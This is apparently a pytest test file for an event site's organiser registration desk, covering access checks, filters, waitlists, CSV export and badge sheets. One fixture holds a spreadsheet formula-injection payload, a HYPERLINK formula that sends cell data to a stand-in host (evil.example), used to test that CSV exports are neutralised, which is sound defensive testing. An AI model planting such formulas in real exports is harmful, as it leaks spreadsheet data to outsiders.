"""The organisers' registration desk over HTTP: filters, decisions, moves, cancellations, CSV and badges."""

from __future__ import annotations

import csv
import io
import re
from urllib.parse import parse_qs, urlsplit

import pytest

from marketplace.events.models import EventCapacity
from marketplace.events.registration.models import Registration
from tests.conftest import login

EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'


@pytest.fixture()
def desk(db, client, organiser):
    """The organiser signed in, with English pages (English msgids stay stable when translations change)."""
    organiser.locale = "en"
    db.session.commit()
    assert login(client, organiser.email).status_code == 302
    return client


def url(event, suffix=""):
    return f"/events/{event.slug}/manage/registrations{suffix}"


def row_html(page: str, reg_id: int) -> str:
    match = re.search(rf'<tr id="reg-{reg_id}">(.*?)</tr>', page, re.S)
    assert match, f"registration {reg_id} is not listed"
    return match.group(1)


def listed_ids(page: str) -> set[int]:
    return {int(i) for i in re.findall(r'<tr id="reg-(\d+)">', page)}


def fresh(db, reg) -> Registration:
    db.session.expire_all()
    return db.session.get(Registration, reg.id)


def taken(db, event, participant_type):
    db.session.expire_all()
    return db.session.query(EventCapacity).filter_by(event_id=event.id,
                                                     participant_type=participant_type).one().taken


# --- who may see the desk ----------------------------------------------------------------------------------

def test_anonymous_visitors_are_sent_to_sign_in(client, db, event, make_people, register_person):
    reg = register_person(event, make_people(1)[0])
    for path in (url(event), url(event, ".csv"), f"/events/{event.slug}/manage/badges",
                 url(event, f"/{reg.id}/qr.png")):
        response = client.get(path)
        assert response.status_code == 302 and "/account/login" in response.headers["Location"], path
    response = client.post(url(event, f"/{reg.id}/cancel"))
    assert response.status_code == 302 and "/account/login" in response.headers["Location"]
    assert fresh(db, reg).status == "confirmed"


@pytest.mark.parametrize("role", ["member", "moderator"])
def test_members_and_moderators_are_refused(client, event, make_people, register_person, login_as, role):
    reg = register_person(event, make_people(1)[0])
    login_as(role)
    for path in (url(event), url(event, ".csv"), f"/events/{event.slug}/manage/badges",
                 url(event, f"/{reg.id}/qr.png")):
        assert client.get(path).status_code == 403, path


def test_a_registration_of_another_event_is_not_found(desk, make_event, make_people, register_person):
    one, other = make_event(), make_event(title_vi="Ngày hội công nghệ Văn Giang", title_en="Van Giang TechDemo")
    reg = register_person(other, make_people(1)[0])
    assert desk.post(url(one, f"/{reg.id}/cancel")).status_code == 404
    assert desk.get(url(one, f"/{reg.id}/qr.png")).status_code == 404


# --- the list ----------------------------------------------------------------------------------------------

def test_counts_per_type_and_waitlist_positions(desk, make_event, make_people, register_person):
    event = make_event(capacity={"visitor": 2, "b2b": 5})
    people = make_people(5)
    regs = [register_person(event, p) for p in people[:4]]
    b2b = register_person(event, people[4], participant_type="b2b")
    page = desk.get(url(event)).get_data(as_text=True)

    visitor_counts = re.search(r'<tr data-type="visitor">(.*?)</tr>', page, re.S).group(1)
    numbers = [int(n) for n in re.findall(r"<td>(?:<a [^>]*>)?(\d+)(?:</a>)?</td>", visitor_counts)]
    # capacity, confirmed, offered, waitlisted, pending, checked in, free
    assert numbers == [2, 2, 0, 2, 0, 0, 0]
    assert listed_ids(page) == {r.id for r in regs} | {b2b.id}
    assert "No. 1 in line" in row_html(page, regs[2].id)
    assert "No. 2 in line" in row_html(page, regs[3].id)
    assert "in line" not in row_html(page, regs[0].id)


def test_filters_by_status_type_and_text_ignoring_diacritics(desk, event, make_user, register_person, business):
    an = make_user(email="an@example.vn", name="Nguyễn Văn An")
    binh = make_user(email="binh@example.vn", name="Trần Thị Bình")
    doanh, org = business  # Đỗ Văn Doanh of Công ty CP Chế biến Nông sản Khoái Châu
    reg_an = register_person(event, an)
    reg_binh = register_person(event, binh, participant_type="b2b")
    reg_doanh = register_person(event, doanh, organisation=org, position="Giám đốc kỹ thuật")

    def ids(**params):
        response = desk.get(url(event), query_string=params)
        assert response.status_code == 200
        return listed_ids(response.get_data(as_text=True))

    assert ids() == {reg_an.id, reg_binh.id, reg_doanh.id}
    assert ids(q="nguyen van an") == {reg_an.id}
    assert ids(q="NGUYỄN") == {reg_an.id}
    assert ids(q="khoai chau") == {reg_doanh.id}  # organisation name, typed without accents
    assert ids(q="do van") == {reg_doanh.id}  # đ folds to d
    assert ids(q="giam doc") == {reg_doanh.id}
    assert ids(q="binh@example") == {reg_binh.id}
    assert ids(type="b2b") == {reg_binh.id}
    assert ids(type="visitor", q="an") == {reg_an.id, reg_doanh.id}  # "an" is in "Doanh" too
    assert ids(status="waitlisted") == set()
    assert ids(status="confirmed", type="visitor") == {reg_an.id, reg_doanh.id}
    assert ids(status="nonsense", type="<script>") == {reg_an.id, reg_binh.id, reg_doanh.id}  # ignored, not a 500


def test_pages_of_fifty_keep_the_filters(desk, make_event, make_people, register_person):
    event = make_event(capacity={"visitor": 100})
    regs = [register_person(event, p) for p in make_people(55)]
    first = desk.get(url(event), query_string={"type": "visitor"}).get_data(as_text=True)
    assert listed_ids(first) == {r.id for r in regs[:50]}
    assert f'href="/events/{event.slug}/manage/registrations?type=visitor&amp;page=2"' in first
    second = desk.get(url(event), query_string={"type": "visitor", "page": 2}).get_data(as_text=True)
    assert listed_ids(second) == {r.id for r in regs[50:]}


# --- actions -----------------------------------------------------------------------------------------------

def test_approve_and_reject_from_the_page(desk, db, make_event, make_people, register_person):
    event = make_event(approval_required=True, capacity={"visitor": 1})
    first, second, third = (register_person(event, p) for p in make_people(3))
    assert {first.status, second.status, third.status} == {"pending_approval"}
    page = desk.get(url(event), query_string={"status": "pending_approval"}).get_data(as_text=True)
    assert "Approve" in row_html(page, first.id) and "Reject" in row_html(page, first.id)

    response = desk.post(url(event, f"/{first.id}/decide?status=pending_approval&q=nguoi"),
                         data={"decision": "approve"})
    assert response.status_code == 302
    location = urlsplit(response.headers["Location"])
    assert location.path == url(event)
    assert parse_qs(location.query) == {"status": ["pending_approval"], "q": ["nguoi"]}
    assert fresh(db, first).status == "confirmed" and fresh(db, first).ticket_token
    assert desk.post(url(event, f"/{second.id}/decide"), data={"decision": "approve"}).status_code == 302
    assert fresh(db, second).status == "waitlisted"  # the only seat is taken
    response = desk.post(url(event, f"/{third.id}/decide"), data={"decision": "reject"}, follow_redirects=True)
    assert fresh(db, third).status == "rejected"
    assert "Not accepted" in response.get_data(as_text=True)

    # deciding again is a message, not an error page
    response = desk.post(url(event, f"/{third.id}/decide"), data={"decision": "approve"}, follow_redirects=True)
    assert response.status_code == 200
    assert "This registration is not waiting for approval." in response.get_data(as_text=True)
    assert fresh(db, third).status == "rejected"


def test_move_to_another_type(desk, db, make_event, make_people, register_person):
    event = make_event(capacity={"visitor": 5, "b2b": 1, "press": 2})
    anh, ba, chi = make_people(3)
    reg_anh, reg_ba = register_person(event, anh), register_person(event, ba)
    register_person(event, chi, participant_type="b2b")

    response = desk.post(url(event, f"/{reg_anh.id}/type?type=visitor"), data={"participant_type": "press"})
    assert response.status_code == 302 and "type=visitor" in response.headers["Location"]
    assert fresh(db, reg_anh).participant_type == "press"
    assert taken(db, event, "press") == 1 and taken(db, event, "visitor") == 1

    # b2b is full: the organiser is told, nothing changes
    response = desk.post(url(event, f"/{reg_ba.id}/type"), data={"participant_type": "b2b"}, follow_redirects=True)
    assert response.status_code == 200
    assert "There are no places left" in response.get_data(as_text=True)
    assert fresh(db, reg_ba).participant_type == "visitor"
    # a type the event does not have, or nothing at all
    for bad in ("speaker", "", "x" * 500):
        response = desk.post(url(event, f"/{reg_ba.id}/type"), data={"participant_type": bad})
        assert response.status_code == 302
    assert fresh(db, reg_ba).participant_type == "visitor"


def test_cancel_from_the_page_offers_the_seat_to_the_next_person(desk, db, make_event, make_people,
                                                                  register_person):
    event = make_event(capacity={"visitor": 1})
    holder, waiting = (register_person(event, p) for p in make_people(2))
    assert waiting.status == "waitlisted"
    response = desk.post(url(event, f"/{holder.id}/cancel?status=confirmed"))
    assert response.status_code == 302
    assert parse_qs(urlsplit(response.headers["Location"]).query) == {"status": ["confirmed"]}
    assert fresh(db, holder).status == "cancelled"
    assert fresh(db, waiting).status == "offered"
    assert taken(db, event, "visitor") == 1  # the offered place holds the seat
    page = desk.get(url(event)).get_data(as_text=True)
    assert "Cancelled" in row_html(page, holder.id) and "Place offered" in row_html(page, waiting.id)
    # cancelling twice: a message, no error page
    response = desk.post(url(event, f"/{holder.id}/cancel"), follow_redirects=True)
    assert response.status_code == 200
    assert "This registration is no longer active." in response.get_data(as_text=True)


def test_reissue_ticket_revokes_the_old_one(desk, db, event, make_people, register_person):
    reg = register_person(event, make_people(1)[0])
    old = reg.ticket_token
    assert desk.post(url(event, f"/{reg.id}/reissue")).status_code == 302
    assert fresh(db, reg).ticket_token not in (None, old)


# --- CSV ---------------------------------------------------------------------------------------------------

def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))


def test_csv_has_the_columns_vietnamese_text_and_the_filters(desk, make_event, make_user, register_person,
                                                              business):
    event = make_event(capacity={"visitor": 1, "b2b": 5})
    doanh, org = business
    an = make_user(email="an@example.vn", name="Nguyễn Văn An")
    first = register_person(event, doanh, organisation=org, phone="0221 3863 888", position="Giám đốc",
                            consent_share_contact=True)
    second = register_person(event, an, consent_photos=True)

    rows = read_csv(desk.get(url(event, ".csv")))
    assert rows[0] == ["Reference", "Full name", "Email", "Phone", "Position", "Organisation", "Participant type",
                       "Status", "Waitlist position", "Registered at (Vietnam time)", "Checked in at (Vietnam time)",
                       "Gate", "Consent: processing for the event", "Consent: share contact with exhibitors",
                       "Consent: photos"]
    by_id = {row[0]: row for row in rows[1:]}
    assert set(by_id) == {str(first.id), str(second.id)}
    one = by_id[str(first.id)]
    assert one[1:8] == ["Đỗ Văn Doanh", "dn@example.vn", "0221 3863 888", "Giám đốc",
                        "Công ty CP Chế biến Nông sản Khoái Châu", "Visitor", "Confirmed"]
    assert one[8] == "" and one[12:] == ["Yes", "Yes", "No"]
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}", one[9])
    two = by_id[str(second.id)]
    assert two[7:9] == ["On the waitlist", "1"] and two[12:] == ["Yes", "No", "Yes"]

    only = read_csv(desk.get(url(event, ".csv"), query_string={"q": "nguyen"}))
    assert [row[0] for row in only[1:]] == [str(second.id)]


def test_csv_cells_cannot_run_as_formulas(desk, event, make_user, register_person):
    evil = make_user(email="evil@example.vn", name=EVIL_NAME)
    reg = register_person(event, evil, phone="+84 912 345 678", position="@SUM(A1:A9)")
    rows = read_csv(desk.get(url(event, ".csv")))
    row = next(r for r in rows if r[0] == str(reg.id))
    assert row[1] == "'" + EVIL_NAME
    assert row[3] == "'+84 912 345 678"
    assert row[4] == "'@SUM(A1:A9)"
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for r in rows for cell in r)
    # the page itself shows the name as plain text
    page = desk.get(url(event)).get_data(as_text=True)
    assert "=HYPERLINK(&#34;http://evil.example/" in page or "=HYPERLINK(&quot;http://evil.example/" in page


# --- badges ------------------------------------------------------------------------------------------------

def badge_ids(page: str) -> list[int]:
    return [int(i) for i in re.findall(r'id="badge-(\d+)"', page)]


def test_badges_show_confirmed_people_with_their_qr(desk, db, make_event, make_people, register_person, business):
    event = make_event(capacity={"visitor": 2, "b2b": 5})
    doanh, org = business
    people = make_people(3)
    confirmed = register_person(event, doanh, organisation=org)
    other = register_person(event, people[0])
    waitlisted = register_person(event, people[1])
    b2b = register_person(event, people[2], participant_type="b2b")
    assert waitlisted.status == "waitlisted"

    response = desk.get(f"/events/{event.slug}/manage/badges")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert set(badge_ids(page)) == {confirmed.id, other.id, b2b.id}
    assert "css/badges.css" in page
    assert "Công ty CP Chế biến Nông sản Khoái Châu" in page and "Hung Yen Techmart" in page  # English page
    assert f'src="/events/{event.slug}/manage/registrations/{confirmed.id}/qr.png"' in page
    assert page.count('class="badge-sheet"') == 1

    typed = desk.get(f"/events/{event.slug}/manage/badges", query_string={"type": "b2b"}).get_data(as_text=True)
    assert badge_ids(typed) == [b2b.id]

    qr = desk.get(url(event, f"/{confirmed.id}/qr.png"))
    assert qr.status_code == 200 and qr.mimetype == "image/png" and qr.data.startswith(b"\x89PNG")
    assert "no-store" in qr.headers["Cache-Control"]
    assert desk.get(url(event, f"/{waitlisted.id}/qr.png")).status_code == 404


def test_eight_badges_per_sheet_sorted_by_given_name(desk, make_event, make_user, register_person):
    event = make_event(capacity={"visitor": 20})
    names = ["Trần Văn Bình", "Lê Thị An", "Phạm Minh Đức", "Nguyễn Thu Chi", "Hoàng Anh Tuấn", "Vũ Thị Hà",
             "Đặng Quốc Việt", "Bùi Thanh Lan", "Đỗ Minh Khoa"]
    regs = {n: register_person(event, make_user(email=f"p{i}@example.vn", name=n)) for i, n in enumerate(names)}
    page = desk.get(f"/events/{event.slug}/manage/badges").get_data(as_text=True)
    assert page.count('class="badge-sheet"') == 2
    expected = ["Lê Thị An", "Trần Văn Bình", "Nguyễn Thu Chi", "Phạm Minh Đức", "Vũ Thị Hà", "Đỗ Minh Khoa",
                "Bùi Thanh Lan", "Hoàng Anh Tuấn", "Đặng Quốc Việt"]
    assert badge_ids(page) == [regs[n].id for n in expected]


def test_mark_badges_printed_then_show_only_new_ones(desk, db, event, make_people, register_person):
    first, second = (register_person(event, p) for p in make_people(2))
    response = desk.post(f"/events/{event.slug}/manage/badges/printed?type=visitor",
                         data={"reg_id": [str(first.id)]})
    assert response.status_code == 302 and "type=visitor" in response.headers["Location"]
    assert fresh(db, first).badge_printed_at is not None
    assert fresh(db, second).badge_printed_at is None
    page = desk.get(f"/events/{event.slug}/manage/badges", query_string={"new": "1"}).get_data(as_text=True)
    assert badge_ids(page) == [second.id]
    # nothing selected, or garbage: a message
    response = desk.post(f"/events/{event.slug}/manage/badges/printed", data={"reg_id": ["abc"]},
                         follow_redirects=True)
    assert response.status_code == 200 and "There are no badges to mark." in response.get_data(as_text=True)
